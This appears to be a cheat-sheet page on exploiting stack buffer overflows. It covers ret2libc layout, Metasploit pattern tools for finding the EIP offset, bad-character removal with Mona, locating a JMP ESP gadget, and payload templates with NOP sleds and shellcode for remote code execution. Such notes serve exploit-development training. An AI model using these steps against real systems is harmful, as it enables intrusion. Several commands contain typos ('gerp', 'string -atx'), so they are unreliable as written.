Buffer Overflow

Table of content


Standard Ret2Libc

'A' * buffer_size + system_address + exit_address + /bin/sh_address

The buffer sizemust be set in order to be able to control RIP. It can be easily found using GDB and pattern create.

The infosecwriteups article show how to do it.

With access to the machine

  • Get libc address : ldd ${executable}
  • Get libc's function offset : readelf -s ${libc} | gerp ${functionName}
  • Get libc's string offset : string -atx ${libc} | grep ${string}

The complete function address is : ${libcAddress} + ${functionOffset}


Pattern create

# Find the binary
locate pattern_create
# Generate the pattern
msf-pattern_create -l ${bufferSize}
# Find the offset from the value leaked on EIP
msf-pattern_offset -l ${initalPatternLength} -q ${patternFoundOnEIP}

Control EIP

The bytes set after the patternOffset will control EIP:

# Set 0x42424242 in EIP
buff = "A" * ${patternOffset} + "BBBB" + "C" * 16

Remove badchars


badchars =b"\x01\x02\x03\x04\x05\x06\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\x20\x21\x22\x23\x24\x25\x26\x27\x28\x29\x2a\x2b\x2c\x2d\x2e\x2f\x30\x31\x32\x33\x34\x35\x36\x37\x38\x39\x3a\x3b\x3c\x3d\x3e\x3f\x40\x41\x42\x43\x44\x45\x46\x47\x48\x49\x4a\x4b\x4c\x4d\x4e\x4f\x50\x51\x52\x53\x54\x55\x56\x57\x58\x59\x5a\x5b\x5c\x5d\x5e\x5f\x60\x61\x62\x63\x64\x65\x66\x67\x68\x69\x6a\x6b\x6c\x6d\x6e\x6f\x70\x71\x72\x73\x74\x75\x76\x77\x78\x79\x7a\x7b\x7c\x7d\x7e\x7f\x80\x81\x82\x83\x84\x85\x86\x87\x88\x89\x8a\x8b\x8c\x8d\x8e\x8f\x90\x91\x92\x93\x94\x95\x96\x97\x98\x99\x9a\x9b\x9c\x9d\x9e\x9f\xa0\xa1\xa2\xa3\xa4\xa5\xa6\xa7\xa8\xa9\xaa\xab\xac\xad\xae\xaf\xb0\xb1\xb2\xb3\xb4\xb5\xb6\xb7\xb8\xb9\xba\xbb\xbc\xbd\xbe\xbf\xc0\xc1\xc2\xc3\xc4\xc5\xc6\xc7\xc8\xc9\xca\xcb\xcc\xcd\xce\xcf\xd0\xd1\xd2\xd3\xd4\xd5\xd6\xd7\xd8\xd9\xda\xdb\xdc\xdd\xde\xdf\xe0\xe1\xe2\xe3\xe4\xe5\xe6\xe7\xe8\xe9\xea\xeb\xec\xed\xee\xef\xf0\xf1\xf2\xf3\xf4\xf5\xf6\xf7\xf8\xf9\xfa\xfb\xfc\xfd\xfe\xff"

send("A" * ${patternOffset} + badchars)

Verify in the stack if the values are correctly sent and remove values that are not exactly the same than the one expected.

For example :

badchars = "\x01\x02\x03\x04\x05\x06\x07\x08"
send("A" * ${patternOffset} + 'BBBB' + badchars)

# Stack state once the PE crashed :
# ESP + 0 : \x01 \x02 \x0A \x08
# ESP + 8 : \x05 \x06 \x07 \x08
# \x03 is the first wrong value. \x03 is a badchars.
# Remove the badchar and do it again as long as all
# remaining chars are correctly stored.

Mona (Immunity Debugger)

Generate the bytearrays inital mona byte array :

!mona config -set workingfolder c:\mona\%p
!mona bytearray -b '${badcharsList}'
# !mona bytearray -b "\x00"

Once the program crash, use mona to detect badchars:

!mona compare -f C:\mona\${...}\bytearray.bin -a esp

Usually, if mona detect 2 consecutive byte as badchars, it is because the first one make the second glitch. Thus, keep the first one only.

For example, if mona find the following badchars :

\x00 \x07 \x08 \x0A \x0B

Keep only \x00, \x07 and \x0A as badchar and relaunch the process without these badchars as long as mona find other badchars.

Find jumppoint

The payload is stored in ESP. It is then required to replace thecurrent EIP by a JMP ESP.

Mona can be used to find the gadjet address:

mona ! jmp -r esp -cpb "${badchars}"
# !mona jmp -r esp -cpb "\x00\x0a\x0d"

Keep the address in litlle endian and send the following payload to get rce :

send("A" * ${patternOffset} + ${jmpAddress} + ${shellcode})

It can be usefull to make a NOP sleeve :

send("A" * ${patternOffset} + ${jmpAddress} + "\x90" * 16 +${shellcode})


results matching ""

    No results matching ""

    results matching""

      No results matching ""